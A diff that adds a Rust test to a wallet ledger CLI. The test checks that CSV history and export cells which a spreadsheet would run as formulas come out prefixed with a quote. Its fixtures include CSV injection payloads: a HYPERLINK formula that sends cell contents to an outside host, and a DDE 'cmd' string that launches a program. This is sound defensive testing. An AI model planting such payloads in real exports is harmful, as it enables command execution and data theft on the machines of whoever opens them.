@@ -193,3 +193,90 @@ fn every_csv_listing_has_one_header_and_every_row_its_width_whatever_the_transac
         assert_eq!(one, header, "one fixed header for `ledger journal`");
     }
 }
+
+/// What a spreadsheet runs as a formula, as API callers can send it.
+const FORMULAS: [&str; 4] = [
+    "=HYPERLINK(\"http://x/?\"&A1,\"refund\")",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A2)",
+];
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote() {
+    let l = Ledger::new();
+    l.ok(&["wallet", "create", "u1"]);
+    for (i, formula) in FORMULAS.iter().enumerate() {
+        let reference = format!("r{i}");
+        let description = format!("--description={formula}");
+        l.ok(&[
+            "wallet",
+            "deposit",
+            "u1",
+            "--amount",
+            "10",
+            &description,
+            "--reference-id",
+            &reference,
+        ]);
+    }
+    l.ok(&["wallet", "deposit", "u1", "--amount", "1", "--description=-5.00"]);
+    l.ok(&[
+        "wallet",
+        "payment",
+        "u1",
+        "--amount",
+        "1",
+        "--counterparty",
+        "@evil",
+        "--reference-id=-1-1",
+    ]);
+    l.ok(&["wallet", "freeze", "u1", "--amount", "1", "--reason", "=1+1"]);
+    l.ok(&["wallet", "status", "u1", "frozen", "--reason", "+1", "--yes"]);
+
+    let neutralised = |cell: &str| format!("'{cell}");
+    let (header, rows) = csv(&l, &["wallet", "history", "u1"]);
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let descriptions: Vec<&str> = rows.iter().map(|r| r[col("description")].as_str()).collect();
+    for formula in FORMULAS {
+        assert!(
+            descriptions.contains(&neutralised(formula).as_str()),
+            "{descriptions:?}"
+        );
+    }
+    assert!(
+        descriptions.contains(&"-5.00"),
+        "a number is not a formula and stays a number: {descriptions:?}"
+    );
+    let payment = rows.iter().find(|r| r[col("type")] == "payment").unwrap();
+    assert_eq!(payment[col("counterparty_id")], "'@evil");
+    assert_eq!(payment[col("reference_id")], "'-1-1");
+    assert_eq!(payment[col("amount")], "1.00");
+    let (header, rows) = csv(&l, &["wallet", "freezes", "u1"]);
+    assert_eq!(rows[0][header.iter().position(|h| h == "reason").unwrap()], "'=1+1");
+    let (header, rows) = csv(&l, &["wallet", "status", "u1"]);
+    assert_eq!(rows[0][header.iter().position(|h| h == "reason").unwrap()], "'+1");
+
+    let out = l.cmd().args(["ledger", "export", "--format", "csv"]).output().unwrap();
+    assert!(out.status.success());
+    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for formula in FORMULAS {
+        assert!(
+            rows.iter().any(|r| r[col("description")] == neutralised(formula)),
+            "export: {formula}"
+        );
+    }
+    assert!(rows.iter().any(|r| &r[col("reference_id")] == "'-1-1"));
+    assert!(rows.iter().any(|r| &r[col("description")] == "-5.00"));
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@']) && (!cell.starts_with('-') || cell == "-5.00"),
+                "export cell {cell:?}"
+            );
+        }
+    }
+}
